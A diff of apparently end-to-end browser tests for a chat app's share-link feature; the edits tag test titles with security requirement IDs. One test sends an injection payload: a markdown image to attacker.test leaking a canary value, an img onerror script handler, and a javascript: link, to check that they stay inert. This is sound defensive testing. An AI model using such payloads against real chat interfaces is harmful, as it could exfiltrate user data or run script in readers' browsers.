@@ -41,7 +41,7 @@ test.beforeEach(async ({ page }) => {
   await signIn(page, ADMIN);
 });
 
-test('a share is a public, read-only snapshot: no leaks, private headers, revoke, re-share, delete', async ({ page, browser }) => {
+test('S14/S15: a share is a public, read-only snapshot: no leaks, private headers, revoke, re-share, delete', async ({ page, browser }) => {
   const id = await chatWithTool(page);
   const url = await createLink(page);
 
@@ -113,7 +113,7 @@ test('a share is a public, read-only snapshot: no leaks, private headers, revoke
   await anon.context().close();
 });
 
-test('probes of the share route all get the same 404', async ({ page, browser }) => {
+test('S13: probes of the share route (conversation id, a flipped token, junk) all get the same 404', async ({ page, browser }) => {
   const id = await chatWithTool(page);
   const url = await createLink(page);
   const token = url.split('/').pop()!;
@@ -127,7 +127,7 @@ test('probes of the share route all get the same 404', async ({ page, browser })
   await anon.context().close();
 });
 
-test('with "Include tool details" and "Show my name" the share shows arguments, result and the owner name', async ({ page, browser }) => {
+test('S15: only with "Include tool details" and "Show my name" does the share show arguments, result and the owner name', async ({ page, browser }) => {
   await chatWithTool(page);
   const url = await createLink(page, { toolDetails: true, myName: true });
   const anon = await anonymousPage(browser);
@@ -153,7 +153,7 @@ test('with "Include tool details" and "Show my name" the share shows arguments, 
   expect((await page.request.get(url)).status()).toBe(404);
 });
 
-test('images and scripts in a shared answer stay inert on the share page', async ({ page, browser }) => {
+test('S8/S9: images and scripts in a shared answer stay inert on the share page', async ({ page, browser }) => {
   await page.goto('/');
   await send(page, 'Pic [[say:![a](https://attacker.test/p.png?d=CANARY) <img src="https://attacker.test/i.png" onerror="alert(1)"> [x](javascript:alert(1))]]');
   await expect(assistantMessages(page).last()).toContainText('Open image');
@@ -178,7 +178,7 @@ test('images and scripts in a shared answer stay inert on the share page', async
   await anon.context().close();
 });
 
-test("another user can neither share nor export the admin's chat, but can continue from a share", async ({ page, browser }) => {
+test("S16: another user can neither share nor export the admin's chat, but can continue from a share", async ({ page, browser }) => {
   await ensureUser(page.request, BOB);
   const id = await chatWithTool(page);
   const url = await createLink(page);
